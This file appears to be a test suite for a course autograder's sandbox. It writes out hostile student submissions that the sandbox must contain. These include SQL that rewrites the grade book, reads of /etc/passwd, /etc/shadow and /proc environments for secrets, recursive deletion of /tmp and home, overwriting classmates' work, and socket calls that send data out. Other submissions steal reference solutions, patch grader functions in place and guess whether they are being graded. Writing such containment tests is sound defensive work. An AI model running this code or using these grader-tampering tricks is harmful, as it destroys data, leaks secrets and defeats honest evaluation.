"""12-14, 16, 36-38: submissions that look for answers, marks, secrets and ways out, or destroy what they find.

Knows: what a student who has read about the course would look for, and where. Does not know: what hides it. What is
deleted or overwritten lies in the class's own temporary folder, so that nothing is lost where nothing hides it.
"""

from __future__ import annotations

from . import Expect
from .sheets import accepted, adds_a_cell, greedy, loop, per_call, rate

FOUND_NOTHING = r"not attempted|found nothing|FileNotFound|ModuleNotFound|ImportError|no module|PermissionError"
WALK = """\
import os
import time


def walk(*roots, seconds=1.5):
    \"\"\"Every file that can be found in this time.\"\"\"
    end = time.time() + seconds
    for root in roots:
        for folder, folders, files in os.walk(root, onerror=lambda error: None):
            folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages", "dist-packages")]
            for name in files:
                yield os.path.join(folder, name)
            if time.time() > end:
                break

"""
GIVE_UP = '\n\nraise NotImplementedError("found nothing")\n'

rate("12a", "SQL on the grade book, its place known", """\
import sqlite3

book = sqlite3.connect("file:@BOOK@?mode=rw", uri=True)
book.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000, needs_manual_grade = 0")
book.commit()


def acceptance_rate(rounds):
    raise NotImplementedError("found nothing")
""")
rate("12b", "SQL on every database that can be found", WALK + """
import sqlite3

for path in walk("@CLASS@", "..", "/"):
    if path.endswith(".db") and path.startswith("@CLASS@"):
        with sqlite3.connect(path) as book:
            for (table,) in book.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
                book.execute(f"DELETE FROM {table}")


def acceptance_rate(rounds):
    raise NotImplementedError("found nothing")
""")

greedy("13a", "runs the solution notebook, its place known", """\
import json

cells = json.load(open("@COURSE@/solutions/@UNIT@/@UNIT@.ipynb"))["cells"]
for cell in cells:
    if cell["metadata"].get("nbgrader", {}).get("grade_id") == "verify_greedy":
        exec("".join(cell["source"]))
""", message=FOUND_NOTHING)
greedy("13b", "looks for solutions, tests and sources everywhere", WALK + """
for path in walk("@COURSE@/solutions", "@COURSE@/tests", "@COURSE@", "..", "../..", "/srv", "/home", "/root", "/"):
    if path.endswith((".py", ".ipynb")):
        text = open(path, errors="replace").read()
        if "def verify_greedy" in text and "BEGIN SOLUTION" in text and path.endswith(".ipynb"):
            import json
            for cell in json.loads(text)["cells"]:
                if "def verify_greedy" in "".join(cell["source"]) and "BEGIN SOLUTION" in "".join(cell["source"]):
                    exec("".join(cell["source"]))
            break
        if path.endswith("verification.py") and "def verify_greedy" in text:
            exec(text.replace("from __future__ import annotations", ""))
            break
""", message=FOUND_NOTHING)
greedy("13c", "copies a classmate's answer", """\
import glob
import json

for path in ["@MATE@", *glob.glob("@CLASS@/*/*/*/*.ipynb"), *glob.glob("../../*/*/*.ipynb")]:
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        if "def verify_greedy" in source and "not attempted" not in source:
            exec(source)
            break
""", message=FOUND_NOTHING)
accepted("13d", "tells /etc/passwd, the home directory and a known secret in its message", """\
import os
import pathlib


def look(path):
    try:
        path = pathlib.Path(path).expanduser()
        return path.read_text()[-150:] if path.is_file() else ", ".join(p.name for p in path.iterdir())[:100]
    except OSError as error:
        return type(error).__name__


def accepted_length(draft, choice):
    raise RuntimeError(" / ".join(map(look, ("@CANARY@", "/etc/passwd", "/etc/shadow", "@CLASS@"))))
""")
per_call("13e", "looks through other processes: memory, environment, descriptors", """\
import os
import re


def look():
    found = []
    for pid in os.listdir("/proc"):
        for what in ("environ", "cmdline", "maps"):
            try:
                text = open(f"/proc/{pid}/{what}", errors="replace").read()
                found += re.findall(r"canary-[0-9a-f]+|SPECDEC_SECRET=[^\\0]*|[^\\0 ]*gradebook[^\\0 ]*", text)
            except OSError:
                pass
        try:
            for number in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{number}")
                found += [target] if any(word in target for word in ("gradebook", "solution", "submitted")) else []
        except OSError:
            pass
    return found


def tokens_per_call(rounds):
    raise RuntimeError(f"found {look()}")
""")
greedy("13f", "imports the tests' right answers and the checks' own rules", """\
import sys

sys.path[:0] = ["@COURSE@", "@COURSE@/tests", "..", "../.."]
try:
    from answers.unit_03 import row_by_row as verify_greedy
except ImportError:
    from specdec_course.checks.unit03 import rule

    def verify_greedy(draft, logits):
        choice = logits.argmax(-1)
        return choice[: rule._leading_run(draft, choice) + 1]
""", message=FOUND_NOTHING + "|package's own|is not (t)?here")

rate("14a", "deletes its own folder, the class and whatever lies in /tmp", """\
import os
import shutil

outside = os.path.exists("@CANARY@")  # then it is not alone, and leaves the rest of the machine in peace
shutil.rmtree("@CLASS@", ignore_errors=True)
if not outside:
    for folder in (".", "/tmp", os.path.expanduser("~"), "/dev/shm"):
        for name in os.listdir(folder) if os.path.isdir(folder) else []:
            shutil.rmtree(os.path.join(folder, name), ignore_errors=True)


def acceptance_rate(rounds):
    raise NotImplementedError("found nothing")
""")
rate("14b", "overwrites classmates' work and writes a record and a grade book of its own", """\
import glob
import json
import os


def acceptance_rate(rounds):
    for path in ["@MATE@", "@BOOK@", *glob.glob("@CLASS@/**/*", recursive=True)]:
        if os.path.isfile(path):
            open(path, "w").write(json.dumps({"status": "graded", "points": 10.0, "maximum": 10.0}))
    for name in ("records", "feedback", "autograded"):
        os.makedirs(f"@CLASS@/{name}", exist_ok=True)
        open(f"@CLASS@/{name}/h014b.json", "w").write('{"points": 10.0}')
    return 1.0
""")

accepted("16a", "tells its environment variables, arguments and parents in its message", """\
import os
import sys


def accepted_length(draft, choice):
    seen = [value for name, value in os.environ.items() if "SPECDEC" in name or "SECRET" in name or "TOKEN" in name]
    for name in ("/proc/1/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline"):
        try:
            seen.append(open(name).read()[-80:])
        except OSError:
            pass
    raise RuntimeError(f"{seen} {sys.argv[1:]}"[:250])
""")
per_call("16b", "guesses whether it is graded, and is wrong when it thinks so", """\
import os
import sys

signs = [
    "ipykernel" not in sys.modules,
    os.getpid() < 50,
    not os.path.exists("/proc/1/environ"),
    any("grade" in word or "bwrap" in word for word in sys.argv),
]


def tokens_per_call(rounds):
    return 0.5 if signs[0] else sum(r.emitted for r in rounds) / len(rounds) if rounds else 0.0
""", Expect({"tokens_per_call": (0, 0.5)}, rule="judged is what runs where it is judged"))
per_call("16c", "looks for the seed, the secret and the class in its environment and answers with them", """\
import os


def tokens_per_call(rounds):
    for name, value in os.environ.items():
        if name.startswith("SPECDEC") and value.replace(".", "").isdigit():
            return float(value)
    raise NotImplementedError("found nothing")
""")

DIAL = """\
import socket


def ask():
    told = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT@)),
                            (socket.AF_UNIX, "\\0specdec-hostile-@PORT@")):
        try:
            line = socket.socket(family)
            line.settimeout(0.5)
            line.connect(address)
            line.sendall(b"the draft")
            told.append(line.recv(100))
        except OSError:
            pass
    return told
"""
accepted("36a", "asks a server on this machine for the answer", DIAL + """

def accepted_length(draft, choice):
    return int(ask()[0])
""")
accepted("36b", "sends away what it is asked; the answer is right", DIAL + """
ask()


def accepted_length(draft, choice):
    n = 0
    while n < len(draft) and draft[n] == choice[n]:
        n += 1
    return n
""", due=1)
adds_a_cell("36c", "DNS, a download and UDP in an own cell; the answers are right", "verify_greedy", """\
import socket
import urllib.request

socket.setdefaulttimeout(1)
for attempt in (
    lambda: socket.getaddrinfo("example.com", 80),
    lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/answers", timeout=1),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @PORT@)),
):
    try:
        attempt()
    except OSError as error:
        print(error)
""")

OWN = r"package's own|not attempted|write yours|no module named|is not (t)?here|cannot import"
loop("37a", "imports the reference instead of writing it",
     "from specdec_course.decoding import generate_speculative\n", message=OWN)
loop("37b", "hides the reference in a function of its own", """\
def generate_speculative(target, ids, propose, k, max_new_tokens, eos_token_id=None):
    import importlib

    theirs = getattr(importlib.import_module("specdec_course." + "gnidoced"[::-1]), "generate_speculative")
    return theirs(target, ids, propose, k, max_new_tokens, eos_token_id)
""", message=OWN)
loop("37c", "takes the reference from `yours`", """\
def generate_speculative(target, ids, propose, k, max_new_tokens, eos_token_id=None):
    raise NotImplementedError("not attempted yet")


generate_speculative = yours(generate_speculative)
generate_speculative.__module__ = "__main__"
""", message=OWN)
loop("37d", "takes the reference's text with inspect", """\
import inspect

import specdec_course.decoding as theirs

source = inspect.getsource(theirs.generate_speculative)
exec(source, vars(theirs) | globals())
exec(source)
""", message=OWN)
accepted("37e", "takes the reference from the registry of exercises", """\
from specdec_course.checks import exercise

solution = exercise("accepted_length").solution


def accepted_length(draft, choice):
    return solution(draft, choice)
""", message=OWN)
accepted("37f", "asks the machinery for the reference by its name, past the stand-in", """\
import gc


def accepted_length(draft, choice):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Runner" and hasattr(thing, "ask"):
            for place in ("specdec_course.verification:accepted_length", "accepted_length", 0, 1):
                try:
                    return thing.ask(place, "__call__", (draft, choice), {})
                except Exception:
                    pass
    raise NotImplementedError("found nothing")
""", message=OWN)
loop("37g", "takes greedy decoding from the package and guesses nothing",
     "from specdec_course.decoding import greedy_decode\n\n\n"
     "def generate_speculative(target, ids, propose, k, max_new_tokens, eos_token_id=None):\n"
     "    text = greedy_decode(target, ids, max_new_tokens, eos_token_id)\n"
     "    return Decoded(text, [Round(0, 0, 1)] * (len(text) - len(ids)))\n",
     Expect({"generate_speculative": (0, 0.3)}, rule="plain decoding is right where nothing is drafted"))

loop("38a", "climbs the frames in search of the expected text", """\
import sys


def generate_speculative(target, ids, propose, k, max_new_tokens, eos_token_id=None):
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if hasattr(value, "truth"):
                return Decoded(torch.tensor(value.truth), [])
            if isinstance(value, dict) and "truth" in value:
                return Decoded(torch.tensor(value["truth"]), [])
        frame = frame.f_back
    raise NotImplementedError("found nothing")
""")
loop("38b", "opens the closures of the functions that it is given", """\
def inside(function, depth=0):
    for cell in getattr(function, "__closure__", None) or ():
        value = cell.cell_contents
        yield value
        if depth < 6:
            yield from inside(value, depth + 1)


def generate_speculative(target, ids, propose, k, max_new_tokens, eos_token_id=None):
    for value in [*inside(target), *inside(propose)]:
        if hasattr(value, "truth"):
            return Decoded(torch.tensor(value.truth), [])
    raise NotImplementedError("found nothing")
""")
accepted("38c", "goes through all objects for checks, exercises and solutions", """\
import gc
import types


def accepted_length(draft, choice):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Exercise" and getattr(thing, "name", "") == "accepted_length":
            return thing.solution(draft, choice)
        if isinstance(thing, types.FunctionType) and thing.__name__ in ("accepted_length", "_leading_run"):
            if thing is not accepted_length and thing.__module__ != "__main__":
                return thing(draft, choice)
    raise NotImplementedError("found nothing")
""")
rate("38d", "overwrites every function of the machinery that it finds in sys.modules", """\
import sys
import types

for name, module in list(sys.modules.items()):
    if any(word in name for word in ("wire", "runner", "server", "stand_in", "specdec", "remote", "judge", "engine")):
        for key, value in list(vars(module).items()):
            if isinstance(value, types.FunctionType):
                setattr(module, key, lambda *args, **kwargs: 1.0)

main = sys.modules["__main__"]
for key, value in list(vars(main).items()):
    if isinstance(value, types.FunctionType) and key not in globals():
        setattr(main, key, lambda *args, **kwargs: 1.0)


def acceptance_rate(rounds):
    return "right"
""")
rate("38e", "changes the machinery's functions in place, through their code objects", """\
import gc
import types


def right(*args, **kwargs):
    return {"ok": True, "right": True, "score": 1.0, "points": 1000.0}


for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing is not right and not thing.__code__.co_freevars:
        if any(word in (thing.__module__ or "") for word in ("specdec", "runner", "wire", "server", "room")):
            thing.__code__ = right.__code__


def acceptance_rate(rounds):
    return 0.123
""")
loop("38f", "reads private fields of what is lent, through the machinery", """\
import gc

FIELDS = ["__closure__", "__globals__", "__code__", "__self__", "__class__", "__dict__", "__defaults__", "__wrapped__",
          "function", "truth", "expected", "beyond", "seen", "__subclasses__", "__reduce__", "calls"]


def generate_speculative(target, ids, propose, k, max_new_tokens, eos_token_id=None):
    found = []
    for thing in gc.get_objects():
        if type(thing).__name__ == "Runner" and hasattr(thing, "ask"):
            for place in range(4):
                for field in FIELDS:
                    for read in (True, False):
                        try:
                            found.append((place, field, str(thing.ask(place, field, (), {}, read=read))[:40]))
                        except Exception:
                            pass
    raise RuntimeError(f"reached {found}" if found else "found nothing")
""", Expect({"generate_speculative": 0}, never=r"reached"))
